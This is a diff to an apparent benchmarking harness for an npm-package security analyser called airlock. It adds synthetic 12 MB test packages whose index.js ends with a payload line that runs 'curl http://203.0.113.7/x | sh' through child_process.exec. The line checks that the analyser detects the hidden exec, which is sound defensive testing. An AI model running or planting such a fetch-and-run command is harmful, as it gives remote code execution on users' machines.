@@ -17,17 +17,19 @@ import multiprocessing
 import os
 import sys
 import time
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass
+from functools import partial
 from pathlib import Path
 
 from airlock.analysis import ANALYZER_VERSION, Budget, analyze_traced
 from airlock.analysis.capabilities import DEFAULT_BUDGET
 from airlock.errors import AirlockError
-from airlock.model import PackageAnalysis
+from airlock.model import PackageAnalysis, PackageContents, PackageFile
 from airlock.serialize import analysis_to_json
 from airlock.tarball import read_tarball
+from airlock.verdict import decide
 
 # The biggest JavaScript packages on npm we could name: single huge bundles (typescript, monaco, pdf.js,
 # plotly, babel-standalone) and wide trees of many files (next, aws-sdk, firebase, tfjs).
@@ -94,11 +96,36 @@ class Run:
     loaded_seconds: float
     cuts: tuple[str, ...]
     identical: bool | None
+    verdict: str
+    exec_seen: bool
     """None when not repeated (`--single`)."""
 
 
-def measure(path: Path, budget: Budget, load: int, *, repeat: bool) -> Run:
-    contents = read_tarball(path.read_bytes(), subject=path.name)
+PAYLOAD = "\nrequire('child_process').exec('curl http://203.0.113.7/x | sh');\n"
+_MANIFEST = PackageFile("package.json", b'{"name": "synthetic", "version": "1.0.0"}')
+
+
+def _fill(line: str, size: int) -> str:
+    return line * (size // len(line) + 1)
+
+
+def synthetic() -> dict[str, PackageContents]:
+    """12 MB files with the payload at the very end: plain code (the exec must be seen) and code where every
+    line is a seed (the budget cuts it: the package must go to review, never allow)."""
+    plain = "".join(
+        f"function f{i}(a, b) {{ var x{i} = a * {i} + b.length; return x{i} > 3 ? [x{i}] : null; }}\n"
+        for i in range(12 * 2**20 // 80)
+    )
+    dense = _fill("const m = require('fs'); m.statSync(process.env.P);\n", 12 * 2**20)
+    return {
+        name: PackageContents((_MANIFEST, PackageFile("index.js", (code + PAYLOAD).encode())))
+        for name, code in (("synthetic-12mb-plain+exec", plain), ("synthetic-12mb-seeds+exec", dense))
+    }
+
+
+def measure_contents(
+    package: str, contents: PackageContents, budget: Budget, load: int, *, repeat: bool
+) -> Run:
     started = time.perf_counter()
     first, files = analyze_traced(contents, budget=budget)
     seconds = time.perf_counter() - started
@@ -112,7 +139,7 @@ def measure(path: Path, budget: Budget, load: int, *, repeat: bool) -> Run:
     analysed = {f.path for f in files}
     code_bytes = sum(len(f.data) for f in contents.files if f.path in analysed)
     return Run(
-        package=path.name.removesuffix(".tgz"),
+        package=package,
         files=len(files),
         code_mb=code_bytes / 2**20,
         max_steps=biggest.steps if biggest else 0,
@@ -122,7 +149,17 @@ def measure(path: Path, budget: Budget, load: int, *, repeat: bool) -> Run:
         loaded_seconds=loaded_seconds,
         cuts=tuple(f"{s.file}: {s.reason}" for s in first.skipped),
         identical=canonical(first) == canonical(second) if repeat else None,
+        verdict=decide(first.findings).value,
+        exec_seen="child_process.exec" in first.capabilities.builtin,
     )
+
+
+def _read(path: Path) -> PackageContents:
+    return read_tarball(path.read_bytes(), subject=path.name)
+
+
+def _given(contents: PackageContents) -> PackageContents:
+    return contents
 
 
 def _identity(run: Run) -> str:
@@ -175,11 +212,16 @@ def main() -> int:
     header = f"{'package':<34}{'files':>6}{'code MB':>9}{'max steps':>11}{'% budget':>9}{'total steps':>13}"
     print(header + f"{'s':>7}{'s loaded':>9}  cut  identical  largest file")
     runs: list[Run] = []
-    paths = sorted(args.directory.glob("*.tgz"))
+    paths = [] if args.synthetic else sorted(args.directory.glob("*.tgz"))
     if args.only:
         paths = [p for p in paths if p.name.startswith(tuple(args.only))]
-    for path in paths:
-        run = measure(path, budget, args.load, repeat=not args.single)
+    jobs: list[tuple[str, Callable[[], PackageContents]]] = [
+        (p.name.removesuffix(".tgz"), partial(_read, p)) for p in paths
+    ]
+    if args.synthetic:
+        jobs = [(name, partial(_given, contents)) for name, contents in synthetic().items()]
+    for package, contents in jobs:
+        run = measure_contents(package, contents(), budget, args.load, repeat=not args.single)
         runs.append(run)
         print(
             f"{run.package:<34}{run.files:>6}{run.code_mb:>9.1f}{run.max_steps:>11,}"
@@ -190,6 +232,8 @@ def main() -> int:
         )
         for cut in run.cuts[:5]:
             print(f"    cut: {cut}")
+        if run.package.startswith("synthetic"):
+            print(f"    verdict {run.verdict}; payload exec seen: {run.exec_seen}")
     different = [r.package for r in runs if r.identical is False]
     with_cuts = [r.package for r in runs if r.cuts]
     peak = max(runs, key=lambda r: r.max_steps, default=None)
